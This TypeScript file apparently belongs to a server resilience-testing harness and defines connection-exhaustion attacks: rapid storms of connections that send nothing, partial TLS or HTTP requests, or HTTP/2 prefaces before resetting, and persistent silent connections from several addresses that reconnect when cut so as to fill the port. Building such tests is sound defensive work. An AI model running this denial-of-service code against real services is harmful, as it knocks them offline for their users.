/** Connections that come, and say little or nothing. */
import {
  type Attack,
  attackerAddress,
  fillSeconds,
  moreAddresses,
  type Target,
} from "../attack.ts";
import { assemble, crowd, openSocket } from "../wire.ts";

/**
 * Of three addresses they are more than the port has where a process may open 20,000 files, and hardly fewer than
 * the attackers may open there.
 */
const connectionsPerAddress = 6_640;

/** The head of a ClientHello; RFC 8446, section 5.1. */
const hello = Buffer.concat([Buffer.of(0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3), Buffer.alloc(508)]);

/** Each reset at once, which leaves no port behind in TIME_WAIT. */
function storm(name: string, does: string, bytes: string | Uint8Array): Attack {
  return {
    name: `storm-of-${name}`,
    does: `connections that ${does} and go, as fast as they are taken, 200 at once`,
    run: (target) =>
      crowd(target, 200, async () => {
        const socket = await openSocket(target);
        target.count("connections");
        if (bytes.length > 0) {
          await new Promise<void>((resolve) => socket.write(bytes, () => resolve()));
        }
        socket.resetAndDestroy();
      }),
  };
}

/** When the server cuts one, it comes back. */
async function stay(target: Target, addresses: readonly string[]): Promise<void> {
  await assemble(target, addresses.length * connectionsPerAddress, async (place) => {
    const address = addresses[place % addresses.length];
    const socket = await openSocket(target, address);
    socket.on("close", () => {
      openSocket(target, address).catch(() => target.count("refused"));
    });
  });
}

export const connectionAttacks: readonly Attack[] = [
  storm("silence", "say nothing", ""),
  storm("tls", "begin a TLS handshake", hello),
  storm("halves", "send half a request", "GET /healthz HTTP/1.1\r\nHo"),
  storm("upgrades", "ask for an upgrade", "GET /api/ HTTP/1.1\r\nUpgrade: websocket\r\n"),
  storm("http2", "greet over HTTP/2", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
  {
    name: "silent-connections",
    does: "6,640 connections that say nothing, and come back when they are cut",
    seconds: 12,
    run: (target) => stay(target, [attackerAddress]),
  },
  {
    name: "all-connections",
    does: "the same from three addresses, so that the port has no connection left",
    seconds: fillSeconds,
    run: (target) => stay(target, moreAddresses),
  },
];
